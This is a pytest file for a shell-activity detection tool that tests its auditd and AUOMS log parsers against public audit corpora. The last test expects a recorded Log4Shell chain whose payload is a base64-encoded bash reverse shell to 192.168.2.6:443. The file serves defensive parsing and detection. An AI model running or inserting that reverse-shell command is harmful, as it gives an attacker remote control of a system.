"""The auditd and AUOMS readers against the real public corpus (skipped when ../shared/corpus is absent).

Ground truth: go-libaudit's per-line parse (``*.log.golden``) and coalesced events (``aucoalesce-*``),
laurel's JSON renderings (``record-*.json``), the OTRF dataset metadata, and Wazuh's audit test lines.
Comment lines (``#``) in laurel's traces are skipped by the reader, not counted and not errors.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from shellwatch.events import Event
from shellwatch.ingest._audit_ecs import execve_args
from shellwatch.ingest._audit_records import Record, decode_argv, parse_records
from shellwatch.ingest.auditd import events_of
from shellwatch.schema import unknown_fields
from tests.conftest import ReadEvents

pytestmark = pytest.mark.corpus

RAW_LOGS = (
    "auditd/audit-userspace/*.log",
    "auditd/go-libaudit/*.log",
    "auditd/laurel/*.txt",
    "auditd/otrf/*.log",
    "auditd/plaso/audit_enriched.log",
)


def _raw_logs(corpus: Path) -> list[Path]:
    return sorted(path for pattern in RAW_LOGS for path in corpus.glob(pattern))


def test_every_raw_audit_log_parses_without_errors(corpus: Path, read: ReadEvents) -> None:
    paths = _raw_logs(corpus)
    assert len(paths) == 27
    for path in paths:
        events, issues, report = read(path)
        assert report.format == "auditd", f"{path.name} sniffed as {report.format}"
        assert issues == [], f"{path.name}: {issues[:3]}"
        assert events, path.name
        assert report.records >= report.events
        for event in events:
            assert unknown_fields(event) == [], path.name


def _records(line: str) -> list[Record]:
    return parse_records(line.strip())


# --- go-libaudit auparse: per-line decoded values -------------------------------------------------


def _golden_pairs(corpus: Path) -> list[tuple[str, dict[str, Any]]]:
    pairs: list[tuple[str, dict[str, Any]]] = []
    for golden in sorted((corpus / "auditd/go-libaudit").glob("*.log.golden")):
        lines = golden.with_suffix("").read_text().splitlines()
        expected = json.loads(golden.read_text())
        assert len(lines) == len(expected)
        pairs.extend((line, entry) for line, entry in zip(lines, expected, strict=True) if entry)
    return pairs


def test_go_libaudit_execve_arguments(corpus: Path) -> None:
    checked = 0
    for line, entry in _golden_pairs(corpus):
        if entry["record_type"] != "execve":
            continue
        data = entry["data"]
        args, argc = execve_args(_records(line))
        assert argc == int(data["argc"])
        assert args == [data[f"a{index}"] for index in range(argc)]
        checked += 1
    assert checked == 5


@pytest.mark.parametrize(("record_type", "field"), [("cwd", "cwd"), ("path", "name"), ("user_cmd", "cmd")])
def test_go_libaudit_decoded_fields(corpus: Path, record_type: str, field: str) -> None:
    checked = 0
    for line, entry in _golden_pairs(corpus):
        if entry["record_type"] == record_type:
            assert _records(line)[0].get(field) == entry["data"][field]
            checked += 1
    assert checked >= 2


def test_go_libaudit_proctitle_and_tty_data(corpus: Path) -> None:
    titles = 0
    for line, entry in _golden_pairs(corpus):
        record = _records(line)[0]
        if entry["record_type"] == "proctitle":
            assert " ".join(decode_argv(record.fields["proctitle"])) == entry["data"]["proctitle"]
            titles += 1
        if entry["record_type"] == "user_tty":
            assert record.get("data") == entry["data"]["data"]
    assert titles == 7


# --- go-libaudit aucoalesce: whole events -----------------------------------------------------------


def _coalesced_cases(corpus: Path) -> list[tuple[str, str, dict[str, Any]]]:
    cases = []
    for golden in sorted((corpus / "auditd/go-libaudit").glob("aucoalesce-*.json.golden")):
        raw = yaml.safe_load(golden.with_name(golden.name.replace(".json.golden", ".yaml")).read_text())
        for case in json.loads(golden.read_text()):
            cases.append(
                (f"{golden.name}:{case['test_name']}", raw["tests"][case["test_name"]], case["event"])
            )
    return cases


def _one_event(text: str) -> Event:
    records = [record for line in text.splitlines() if line.strip() for record in _records(line)]
    events = events_of(records)
    assert len(events) == 1
    return events[0]


def test_aucoalesce_process_and_user(corpus: Path) -> None:
    cases = _coalesced_cases(corpus)
    assert len(cases) == 41
    for name, text, expected in cases:
        event = _one_event(text)
        process = expected.get("process", {})
        ids = expected.get("user", {}).get("ids", {})
        assert event.get("@timestamp", "")[:23] == expected["@timestamp"].rstrip("Z").ljust(23, "0"), name
        assert event["event.sequence"] == expected["sequence"], name
        if "args" in process:
            assert event["process.args"] == process["args"], name
        if "exe" in process:
            key = (
                "process.parent.executable" if expected["record_type"] == "user_cmd" else "process.executable"
            )
            assert event[key] == process["exe"], name
        if "cwd" in process:
            assert event["process.working_directory"] == process["cwd"], name
        if "title" in process:
            assert event["process.title"] == process["title"], name
        if "ppid" in process:
            assert event["process.parent.pid"] == int(process["ppid"]), name
            assert event["process.pid"] == int(process["pid"]), name
        if "name" in process:
            assert event["process.name"] == process["name"], name
        _check_ids(name, event, ids)
        if "tags" in expected:
            assert event["auditd.key"] == expected["tags"], name
        result = {"success": "success", "fail": "failure"}.get(expected.get("result", ""))
        if result is not None:
            assert event["event.outcome"] == result, name


def _check_ids(name: str, event: Event, ids: dict[str, str]) -> None:
    mapping = {
        "auid": "user.id",
        "euid": "user.effective.id",
        "suid": "process.saved_user.id",
        "gid": "user.group.id",
        "egid": "user.effective.group.id",
    }
    for audit_name, ecs_name in mapping.items():
        if audit_name not in ids:
            continue
        if ids[audit_name] == "unset":
            assert ecs_name not in event, name
        else:
            assert event[ecs_name] == ids[audit_name], (name, audit_name)
    if "uid" in ids and "SYSCALL" in event["auditd.record_types"]:
        assert event["process.real_user.id"] == ids["uid"], name


def test_aucoalesce_sockets(corpus: Path) -> None:
    checked = 0
    for name, text, expected in _coalesced_cases(corpus):
        event = _one_event(text)
        for side in ("source", "destination"):
            if side in expected:
                assert event[f"{side}.ip"] == expected[side]["ip"], name
                if "port" in expected[side]:
                    assert event[f"{side}.port"] == int(expected[side]["port"]), name
                    assert event["event.category"] == ["network"], name
                    checked += 1
        data = expected.get("data", {})
        if "socket_addr" in data:
            assert event["auditd.data.socket.addr"] == data["socket_addr"], name
            assert event["auditd.data.socket.port"] == data["socket_port"], name
    assert checked == 2


def test_aucoalesce_file_paths(corpus: Path) -> None:
    checked = 0
    for name, text, expected in _coalesced_cases(corpus):
        if "file" in expected and expected["record_type"] == "syscall":
            event = _one_event(text)
            path = expected["file"]["path"]
            if path.endswith("/"):
                # go-libaudit names the PARENT directory; we name the node created in it.
                assert str(event["file.path"]).startswith(path), name
            else:
                assert event["file.path"] == path, name
                assert event["file.mode"] == expected["file"]["mode"], name
            checked += 1
    assert checked == 7


# --- laurel ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["record-execve", "record-execve-long", "record-perl-reverse-shell", "record-weblogic"]
)
def test_laurel_argv_proctitle_cwd(corpus: Path, read: ReadEvents, name: str) -> None:
    expected = json.loads((corpus / f"auditd/laurel/{name}.json").read_text())
    events, issues, _report = read(corpus / f"auditd/laurel/{name}.txt")
    assert issues == []
    assert len(events) == 1
    event = events[0]
    argv = expected["EXECVE"]["ARGV"]
    assert event["process.args"] == argv
    assert event["process.args_count"] == expected["EXECVE"]["argc"]
    assert event["process.command_line"] == " ".join(argv)
    assert event["process.working_directory"] == expected["CWD"]["cwd"]
    syscall = expected["SYSCALL"]
    assert event["process.pid"] == syscall["pid"]
    assert event["process.parent.pid"] == syscall["ppid"]
    assert event["process.executable"] == syscall["exe"]
    assert event["user.effective.id"] == str(syscall["euid"])
    if "AUID" in syscall:
        assert event["user.name"] == syscall["AUID"]
        assert event["user.effective.name"] == syscall["EUID"]
    if "PROCTITLE" in expected:
        assert event["process.title"] == " ".join(expected["PROCTITLE"]["ARGV"])
    if "NODE" in expected:
        assert event["host.name"] == expected["NODE"]
    assert event["file.path"] == expected["PATH"][0]["name"]


def test_laurel_reordered_trace_matches_the_ordered_one(corpus: Path, read: ReadEvents) -> None:
    ordered = read(corpus / "auditd/laurel/shell-proc-trace.txt")[0]
    reordered = read(corpus / "auditd/laurel/shell-proc-trace-reordered.txt")[0]

    def key(event: Event) -> tuple[Any, ...]:
        return (
            event["event.sequence"],
            event.get("process.args"),
            event["process.pid"],
            event["event.action"],
        )

    assert sorted(map(key, ordered)) == sorted(map(key, reordered))
    execs = [event["process.args"] for event in ordered if event["event.action"] == "executed"]
    assert execs == [
        ["/bin/sh", "./src/testdata/double-fork/test-script.sh"],
        ["grep", "baz"],
        ["/bin/echo", "foo"],
        ["/bin/sed", "-e", "s/foo/bar/"],
    ]


def test_laurel_aarch64_reverse_order(corpus: Path, read: ReadEvents) -> None:
    events = read(corpus / "auditd/laurel/fork-sleep-exec.txt")[0]
    assert [(event["event.action"], event["process.pid"]) for event in events] == [
        ("executed", 1578539),
        ("forked", 1578540),
        ("executed", 1578540),
    ]
    assert events[0]["auditd.data.arch"] == "aarch64"
    assert events[2]["process.args"] == [""]
    assert events[2]["process.parent.pid"] == 1


def test_laurel_connect(corpus: Path, read: ReadEvents) -> None:
    events = read(corpus / "auditd/laurel/record-connect.txt")[0]
    assert [
        (event["destination.ip"], event["destination.port"], event["event.outcome"]) for event in events
    ] == [
        ("127.0.0.1", 11211, "success"),
        ("::1", 11211, "failure"),
    ]


# --- OTRF -----------------------------------------------------------------------------------------


def test_otrf_arp_cache_pipeline(corpus: Path, read: ReadEvents) -> None:
    meta = yaml.safe_load((corpus / "auditd/otrf/SDLIN-201110074812.yaml").read_text())
    assert "arp -a | grep -v '^?'" in meta["simulation"]["adversary_view"]
    events = read(corpus / "auditd/otrf/sh_arp_cache_2020-11-10074812.log")[0]
    assert [event["process.args"] for event in events] == [["arp", "-a"], ["grep", "-v", "^?"]]
    assert [event["process.title"] for event in events] == ["arp -a", "grep -v ^?"]
    assert {event["user.id"] for event in events} == {"1000"}
    assert {event["process.working_directory"] for event in events} == {"/home/wardog"}
    assert events[0]["process.parent.pid"] == events[1]["process.parent.pid"] == 29002


def test_otrf_dd_binary_padding(corpus: Path, read: ReadEvents) -> None:
    meta = yaml.safe_load((corpus / "auditd/otrf/SDLIN-201110081941.yaml").read_text())
    assert "dd if=/dev/zero bs=1 count=1" in meta["simulation"]["adversary_view"]
    events = read(corpus / "auditd/otrf/sh_binary_padding_dd_2020-11-10081941.log")[0]
    assert len(events) == 1
    assert events[0]["process.command_line"] == "dd if=/dev/zero bs=1 count=1"
    assert events[0]["process.executable"] == "/bin/dd"


# --- plaso ENRICHED ---------------------------------------------------------------------------------


def test_plaso_enriched(corpus: Path, read: ReadEvents) -> None:
    events = read(corpus / "auditd/plaso/audit_enriched.log")[0]
    by_action: dict[str, list[Event]] = {}
    for event in events:
        by_action.setdefault(str(event["event.action"]), []).append(event)
    assert by_action["user_cmd"][0]["process.command_line"] == "true"
    assert by_action["add_user"][0]["user.target.name"] == "specimenuser"
    assert by_action["user_auth"][0]["event.outcome"] == "failure"
    assert by_action["user_auth"][0]["source.ip"] == "172.23.112.1"
    cat = next(event for event in by_action["executed"] if event["process.name"] == "cat")
    assert cat["process.args"] == ["/usr/bin/cat", "/tmp/my report.txt"]
    assert cat["user.name"] == "root"


# --- Wazuh test lines -------------------------------------------------------------------------------

_WAZUH_LOG = re.compile(r"^log \d+ pass = (.*)$")


@pytest.mark.parametrize("name", ["auditd.ini", "audit_scp.ini"])
def test_wazuh_audit_lines_parse(corpus: Path, name: str) -> None:
    text = (corpus / "labeled-rules-tests/wazuh" / name).read_text()
    lines = [match.group(1).strip() for line in text.splitlines() if (match := _WAZUH_LOG.match(line))]
    raw = [line for line in lines if re.match(r"(?:node=\S+ )?type=", line)]
    assert len(raw) == len(lines)
    records = [record for line in raw for record in _records(line)]
    assert len(records) > len(raw)
    events = events_of(records)
    for event in events:
        assert unknown_fields(event) == []
    if name == "audit_scp.ini":
        execs = [event for event in events if event.get("event.action") == "executed"]
        assert execs
        assert all(event["user.name"] == "administrator@ExchangeTest.com" for event in execs)


# --- AUOMS (Sentinel Syslog export) -----------------------------------------------------------------


def test_auoms_log4shell_chain(corpus: Path, read: ReadEvents) -> None:
    path = next((corpus / "auditd/otrf").glob("syslog_auoms_*.json"))
    events, issues, report = read(path)
    assert report.format == "auoms"
    assert issues == []
    assert report.records == report.events == 50
    failed = [
        event for event in events if event["event.outcome"] == "failure" and event["process.pid"] == 17790
    ]
    assert len(failed) == 5
    assert {event["process.executable"] for event in failed} == {
        "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java"
    }
    assert {event["event.reason"] for event in failed} == {"ENOENT"}
    bash_c = next(
        event for event in events if event["event.outcome"] == "success" and event["process.pid"] == 17790
    )
    payload = "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
    assert bash_c["process.args"] == ["bash", "-c", payload]
    assert bash_c["process.executable"] == "/bin/bash"
    assert bash_c["user.effective.name"] == "tomcat"
    assert bash_c["process.parent.pid"] == 1340
    by_pid = {event["process.pid"]: event for event in events if event["event.outcome"] == "success"}
    assert by_pid[17794]["process.command_line"] == "bash -i"
    assert by_pid[17794]["process.parent.args"] == ["bash", "-c", payload]
    assert by_pid[17794]["process.parent.entity_id"] == bash_c["process.entity_id"]
    assert by_pid[17793]["process.args"] == ["base64", "-d"]
    assert by_pid[17793]["process.parent.pid"] == 17790
    assert by_pid[17806]["process.parent.command_line"] == "bash -i"
    whoami = by_pid[17832]
    assert whoami["process.args"] == ["whoami"]
    assert whoami["process.parent.pid"] == 17806
    assert whoami["process.parent.executable"] == "/bin/bash"
    assert {event["host.name"] for event in events} == {"UBUNTU5"}
